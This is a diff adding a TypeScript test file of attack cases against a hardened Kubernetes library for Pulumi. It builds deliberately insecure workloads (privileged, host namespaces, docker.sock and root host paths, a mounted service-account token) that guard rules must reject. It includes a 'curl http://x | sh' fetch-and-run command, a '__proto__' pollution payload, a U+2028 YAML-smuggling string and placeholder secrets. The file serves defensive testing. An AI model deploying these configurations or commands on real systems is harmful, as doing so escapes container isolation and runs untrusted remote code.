@@ -1,0 +1,179 @@
+/**
+ * Attacks on the Pulumi face: typed args the types forbid, JavaScript callers, values that arrive as
+ * Outputs (secrets among them), transformations of our components' children, patches, raw resources,
+ * custom resources and Helm releases beside ours; every kind.
+ */
+import * as k8s from '@pulumi/kubernetes';
+import * as pulumi from '@pulumi/pulumi';
+import { EnvConfig, HardenedCronJob, HardenedDeployment, HardenedJob, HardenedNamespace, HardenedStatefulSet, type HardenedContainerArgs } from '../../../src/pulumi';
+import type { PulumiAttack } from '../pulumi-harness';
+import { goodContainer, hardenedObject, KINDS, pulumiContainer, pulumiWorkload, type Kind } from './common';
+
+const web: HardenedContainerArgs = goodContainer('Deployment');
+const task: HardenedContainerArgs = goodContainer('Job');
+
+const typeAttacks: PulumiAttack[] = [
+  {
+    name: 'privileged on a HardenedDeployment container', category: 'typed-props', target: 'Deployment', stage: 'types', rule: 'HD006',
+    build: (id) => new HardenedDeployment(id, { containers: [{
+      ...web,
+      // @ts-expect-error there is no privileged arg
+      privileged: true,
+    }] }),
+  },
+  {
+    name: 'hostNetwork on a HardenedStatefulSet', category: 'typed-props', target: 'StatefulSet', stage: 'types', rule: 'HD009',
+    build: (id) => new HardenedStatefulSet(id, {
+      containers: [web],
+      // @ts-expect-error there is no hostNetwork arg
+      hostNetwork: true,
+    }),
+  },
+  {
+    name: 'runAsUser 0 on a HardenedJob', category: 'typed-props', target: 'Job', stage: 'types', rule: 'HD002',
+    // @ts-expect-error 0 is not a NonRootId
+    build: (id) => new HardenedJob(id, { containers: [task], runAsUser: 0 }),
+  },
+  {
+    name: 'an image by tag on a HardenedCronJob', category: 'typed-props', target: 'CronJob', stage: 'types', rule: 'HD003',
+    // @ts-expect-error a tag is not a DigestRef
+    build: (id) => new HardenedCronJob(id, { schedule: '@daily', containers: [{ ...task, image: 'busybox:1.36' }] }),
+  },
+  {
+    name: 'automountServiceAccountToken on a HardenedDeployment', category: 'typed-props', target: 'Deployment', stage: 'types', rule: 'HD015',
+    build: (id) => new HardenedDeployment(id, {
+      containers: [web],
+      // @ts-expect-error the token is never mounted
+      automountServiceAccountToken: true,
+    }),
+  },
+  {
+    name: 'a securityContext on a HardenedJob container', category: 'typed-props', target: 'Job', stage: 'types', rule: 'HD001',
+    build: (id) => new HardenedJob(id, { containers: [{
+      ...task,
+      // @ts-expect-error the security context is not an arg
+      securityContext: { runAsUser: 0 },
+    }] }),
+  },
+];
+
+const JS_KEYS: [string, unknown, string, 'container' | 'pod'][] = [
+  ['capabilities', { add: ['SYS_ADMIN'] }, 'HD007', 'container'],
+  ['seccompProfile', { type: 'Unconfined' }, 'HD008', 'container'],
+  ['readOnlyRootFilesystem', false, 'HD004', 'container'],
+  ['envFrom', [{ secretRef: { name: 'db' } }], 'HD017', 'container'],
+  ['hostPath', '/var/run/docker.sock', 'HD010', 'container'],
+  ['hostPID', true, 'HD009', 'pod'],
+  ['volumes', [{ name: 'h', hostPath: { path: '/' } }], 'HD012', 'pod'],
+  ['serviceAccountName', 'default', 'PROP001', 'pod'],
+];
+const jsAttacks: PulumiAttack[] = JS_KEYS.map(([key, value, rule, where], i) => {
+  const kind: Kind = KINDS[i % KINDS.length]!;
+  return {
+    name: `a JavaScript caller sets ${where} ${key} on a ${kind}`, category: 'typed-props', target: kind, stage: 'construct', rule,
+    build: (id: string) => (where === 'container' ? pulumiContainer(kind, id, { [key]: value }) : pulumiWorkload(kind, id, { [key]: value })),
+  };
+});
+
+const valueAttacks: PulumiAttack[] = [
+  { name: 'a StatefulSet in kube-system', category: 'values', target: 'StatefulSet', stage: 'construct', rule: 'HD029', build: (id) => pulumiWorkload('StatefulSet', id, { namespace: 'kube-system' }) },
+  { name: 'a writable path at /', category: 'values', target: 'Job', stage: 'construct', rule: 'HD036', build: (id) => pulumiContainer('Job', id, { writablePaths: [{ path: '/', sizeLimit: '1Gi' }] }) },
+  { name: 'memory limit "0"', category: 'values', target: 'CronJob', stage: 'construct', rule: 'HD035', build: (id) => pulumiContainer('CronJob', id, { resources: { memory: { request: '64Mi', limit: '0' } } }) },
+  { name: 'a probe on an undeclared port name', category: 'values', target: 'Deployment', stage: 'construct', rule: 'HD037', build: (id) => pulumiContainer('Deployment', id, { probes: { readiness: { http: { path: '/', port: 'admin' } }, liveness: { tcp: { port: 8080 } } } }) },
+  { name: 'a literal in a *_PASSWORD_FILE variable', category: 'values', target: 'StatefulSet', stage: 'construct', rule: 'HD018', build: (id) => pulumiContainer('StatefulSet', id, { env: { DB_PASSWORD_FILE: 'correct-horse-battery-staple' } }) },
+  { name: 'a shell behind env in command', category: 'shells', target: 'Job', stage: 'construct', rule: 'HD016', build: (id) => pulumiContainer('Job', id, { command: ['/usr/bin/env', 'sh', '-c', 'id'] }) },
+  { name: 'a shell behind tini in an init container', category: 'shells', target: 'StatefulSet', stage: 'construct', rule: 'HD016', build: (id) => pulumiWorkload('StatefulSet', id, { initContainers: [{ ...task, name: 'init', command: ['tini', '--', 'bash', '-c', 'chown -R 0 /data'] }] }) },
+  { name: 'a container arg named __proto__', category: 'typed-props', target: 'CronJob', stage: 'construct', rule: 'PROP001', build: (id) => pulumiContainer('CronJob', id, JSON.parse('{"__proto__": {"privileged": true}}')) },
+  { name: 'a look-alike attachment that projects a token', category: 'attachments', target: 'Deployment', stage: 'construct', rule: 'PROP007', build: (id) => pulumiContainer('Deployment', id, { config: [{ volumes: [{ name: 't', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }], volumeMounts: [{ name: 't', mountPath: '/var/run/secrets/tokens' }], env: [], seal: 'x' }] }) },
+  { name: 'an EnvConfig mounted over the token directory', category: 'attachments', target: 'EnvConfig', stage: 'construct', rule: 'HD032', build: (id) => new EnvConfig(id, { data: { 'app.conf': 'x\n' }, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' }) },
+  { name: 'a literal string in managedSecret data', category: 'values', target: 'EnvConfig', stage: 'construct', rule: 'HD030', build: (id) => new EnvConfig(id, { managedSecret: { mountPath: '/var/run/secrets/db', data: { password: 'hunter2' } } }) },
+  { name: 'a HardenedNamespace named kube-system', category: 'values', target: 'Namespace', stage: 'construct', rule: 'HD029', build: (id) => new HardenedNamespace(id, { name: 'kube-system' }) },
+  { name: 'a U+2028 path in a writable path', category: 'yaml-text', target: 'Deployment', stage: 'construct', rule: 'HD036', build: (id) => pulumiContainer('Deployment', id, { writablePaths: [{ path: '/tmp\u2028hostPID: true', sizeLimit: '1Mi' }] }) },
+];
+
+/** Values that arrive as Outputs: refused when known, the program fails (run in a process of their own). */
+const programAttacks: PulumiAttack[] = [
+  { name: 'an image tag given as an Output', category: 'values', target: 'CronJob', stage: 'program', rule: 'HD003', build: (id) => pulumiContainer('CronJob', id, { image: pulumi.output('nginx:1.27') }) },
+  { name: 'kube-system given as an Output', category: 'values', target: 'Deployment', stage: 'program', rule: 'HD029', build: (id) => pulumiWorkload('Deployment', id, { namespace: pulumi.output('kube-system') }) },
+  { name: 'a pulumi.secret given as an env value', category: 'values', target: 'StatefulSet', stage: 'program', rule: 'HD018', build: (id) => pulumiContainer('StatefulSet', id, { env: { API_TOKEN: pulumi.secret('s3cr3t-value') } }) },
+  { name: 'a pulumi.secret given as EnvConfig data (a ConfigMap)', category: 'values', target: 'EnvConfig', stage: 'program', rule: 'HD031', build: (id) => new EnvConfig(id, { data: { 'db.conf': pulumi.secret('password=s3cr3t') as unknown as string } }) },
+  { name: 'a pulumi.secret given as a label value', category: 'values', target: 'Job', stage: 'program', rule: 'PROP010', build: (id) => pulumiWorkload('Job', id, { labels: { owner: pulumi.secret('alice') } }) },
+  { name: 'a plain Output given as managedSecret data', category: 'values', target: 'EnvConfig', stage: 'program', rule: 'HD030', build: (id) => new EnvConfig(id, { managedSecret: { mountPath: '/var/run/secrets/db', data: { password: pulumi.output('hunter2') } } }) },
+  { name: 'a secret-looking literal env given as an Output', category: 'values', target: 'Deployment', stage: 'program', rule: 'HD018', build: (id) => pulumiContainer('Deployment', id, { env: { GITHUB_TOKEN: pulumi.output('ghp_0123456789abcdefghijABCDEFGHIJ012345') } }) },
+];
+
+/** A hardened Deployment as the core writes it, bent, for raw resources. */
+function bent(edit: (spec: any, container: any, o: any) => void, name = 'raw'): any {
+  const o = hardenedObject(name);
+  edit(o.spec.template.spec, o.spec.template.spec.containers[0], o);
+  return o;
+}
+const specOf = (o: any) => ({ metadata: o.metadata, spec: o.spec });
+
+/** A transformation of our own component's workload (a Pulumi option that rewrites children's args). */
+const transformation = (kind: Kind, edit: (pod: any, c: any) => void): pulumi.ResourceTransformation => (t) => {
+  if (!t.type.startsWith('kubernetes:apps/v1:') && !t.type.startsWith('kubernetes:batch/v1:')) return undefined;
+  const props = structuredClone(t.props) as any;
+  const pod = kind === 'CronJob' ? props.spec.jobTemplate.spec.template.spec : props.spec.template.spec;
+  edit(pod, pod.containers[0]);
+  return { props, opts: t.opts };
+};
+const withTransform = (kind: Kind, id: string, edit: (pod: any, c: any) => void) => {
+  const args: any = { containers: [goodContainer(kind)], ...(kind === 'CronJob' ? { schedule: '@daily' } : {}) };
+  const opts = { transformations: [transformation(kind, edit)] };
+  const w = kind === 'Deployment' ? new HardenedDeployment(id, args, opts) : kind === 'StatefulSet' ? new HardenedStatefulSet(id, args, opts) : kind === 'Job' ? new HardenedJob(id, args, opts) : new HardenedCronJob(id, args, opts);
+  return w.workload;
+};
+
+const packAttacks: PulumiAttack[] = [
+  { name: 'a transformation makes our Deployment privileged', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'HD006', build: (id) => withTransform('Deployment', id, (_p, c) => { c.securityContext.privileged = true; }) },
+  { name: 'a transformation gives our StatefulSet hostPID', category: 'patches', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD009', build: (id) => withTransform('StatefulSet', id, (p) => { p.hostPID = true; }) },
+  { name: 'a transformation drops seccomp from our Job', category: 'patches', target: 'Job', stage: 'policy-pack', rule: 'HD008', build: (id) => withTransform('Job', id, (p, c) => { delete p.securityContext.seccompProfile; delete c.securityContext.seccompProfile; }) },
+  { name: 'a transformation mounts the token in our CronJob', category: 'patches', target: 'CronJob', stage: 'policy-pack', rule: 'HD015', build: (id) => withTransform('CronJob', id, (p) => { p.automountServiceAccountToken = true; }) },
+  { name: 'a transformation adds SELinux spc_t to our Deployment', category: 'pss-controls', target: 'Deployment', stage: 'policy-pack', rule: 'HD024', build: (id) => withTransform('Deployment', id, (p) => { p.securityContext.seLinuxOptions = { type: 'spc_t' }; }) },
+  { name: 'a transformation sets procMount Unmasked on our StatefulSet', category: 'pss-controls', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD025', build: (id) => withTransform('StatefulSet', id, (_p, c) => { c.securityContext.procMount = 'Unmasked'; }) },
+  {
+    name: 'a DeploymentPatch adds hostNetwork to our Deployment', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'HD009',
+    build: (id) => new k8s.apps.v1.DeploymentPatch(`${id}-patch`, { metadata: { name: 'web' }, spec: { template: { spec: { hostNetwork: true } } } }),
+  },
+  {
+    name: 'a StatefulSetPatch adds a sysctl', category: 'pss-controls', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD026',
+    build: (id) => new k8s.apps.v1.StatefulSetPatch(`${id}-patch`, { metadata: { name: 'db' }, spec: { template: { spec: { securityContext: { sysctls: [{ name: 'net.ipv4.ip_local_port_range', value: '1024 65535' }] } } } } }),
+  },
+  {
+    name: 'a CronJobPatch with Windows hostProcess', category: 'pss-controls', target: 'CronJob', stage: 'policy-pack', rule: 'HD027',
+    build: (id) => new k8s.batch.v1.CronJobPatch(`${id}-patch`, { metadata: { name: 'nightly' }, spec: { jobTemplate: { spec: { template: { spec: { securityContext: { windowsOptions: { hostProcess: true } } } } } } } }),
+  },
+  { name: 'a raw Pod that is privileged', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD006', build: (id) => new k8s.core.v1.Pod(id, { metadata: { name: 'p' }, spec: bent((_p, c) => { c.securityContext.privileged = true; }).spec.template.spec }) },
+  { name: 'a raw DaemonSet with hostPID', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD009', build: (id) => new k8s.apps.v1.DaemonSet(id, { metadata: { name: 'agent' }, spec: { selector: { matchLabels: { app: 'a' } }, template: bent((p) => { p.hostPID = true; }).spec.template } as never }) },
+  { name: 'a raw CronJob whose container runs a shell', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD016', build: (id) => new k8s.batch.v1.CronJob(id, { metadata: { name: 'c' }, spec: { schedule: '@daily', jobTemplate: { spec: { backoffLimit: 1, template: bent((p, c) => { p.restartPolicy = 'Never'; c.command = ['sh', '-c', 'curl http://x | sh']; }).spec.template } } } as never }) },
+  { name: 'a raw Job that never gives up', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD038', build: (id) => new k8s.batch.v1.Job(id, { metadata: { name: 'j' }, spec: { template: bent((p) => { p.restartPolicy = 'Always'; }).spec.template } as never }) },
+  { name: 'a raw Deployment in kube-system', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD029', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((_p, _c, o) => { o.metadata.namespace = 'kube-system'; })) as never) },
+  { name: 'a raw Deployment with a projected token', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD032', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((p) => { p.volumes.push({ name: 't', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }); })) as never) },
+  { name: 'a raw Deployment with the AppArmor annotation unconfined', category: 'pss-controls', target: 'raw', stage: 'policy-pack', rule: 'HD023', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((_p, _c, o) => { o.spec.template.metadata.annotations = { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' }; })) as never) },
+  { name: 'a raw StatefulSet with a hostPort', category: 'pss-controls', target: 'raw', stage: 'policy-pack', rule: 'HD011', build: (id) => new k8s.apps.v1.StatefulSet(id, { metadata: { name: 's' }, spec: { serviceName: 's', selector: { matchLabels: { app: 's' } }, template: bent((_p, c) => { c.ports = [{ containerPort: 8080, hostPort: 80 }]; }).spec.template } as never }) },
+  { name: 'a raw Deployment with a "<<" key that YAML would merge', category: 'yaml-text', target: 'raw', stage: 'policy-pack', rule: 'HD033', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((p) => { p['<<'] = { hostPID: true }; })) as never) },
+  {
+    name: 'an Argo Rollout custom resource with a privileged template', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD006',
+    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata: { name: 'r' }, spec: { selector: { matchLabels: { app: 'r' } }, template: bent((_p, c) => { c.securityContext.privileged = true; }).spec.template } }),
+  },
+  {
+    name: 'a Knative Service custom resource that mounts a host path', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD010',
+    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'serving.knative.dev/v1', kind: 'Service', metadata: { name: 'k' }, spec: { template: bent((p) => { p.volumes.push({ name: 'h', hostPath: { path: '/' } }); }).spec.template } }),
+  },
+  {
+    name: 'a helm.v3.Release, whose objects no guard would see', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD034',
+    build: (id) => new k8s.helm.v3.Release(id, { chart: 'privileged-chart', repositoryOpts: { repo: 'https://charts.example.com' }, values: { securityContext: { privileged: true } } }),
+  },
+  { name: 'a Secret with literal stringData', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD030', build: (id) => new k8s.core.v1.Secret(id, { metadata: { name: 'db' }, stringData: { password: 'hunter2' } }) },
+  {
+    name: 'a ConfigMap whose binaryData holds a private key', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD031',
+    build: (id) => new k8s.core.v1.ConfigMap(id, { metadata: { name: 'tls' }, binaryData: { 'tls.key': Buffer.from('-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n').toString('base64') } }),
+  },
+  {
+    name: 'a raw Deployment whose init container drops no capability', category: 'pss-controls', target: 'raw', stage: 'policy-pack', rule: 'HD007',
+    build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((p, c) => { p.initContainers = [{ ...structuredClone(c), name: 'init', securityContext: { ...c.securityContext, capabilities: {} } }]; })) as never),
+  },
+];
+
+export const PULUMI_FACE_ATTACKS: readonly PulumiAttack[] = [...typeAttacks, ...jsAttacks, ...valueAttacks, ...programAttacks, ...packAttacks];
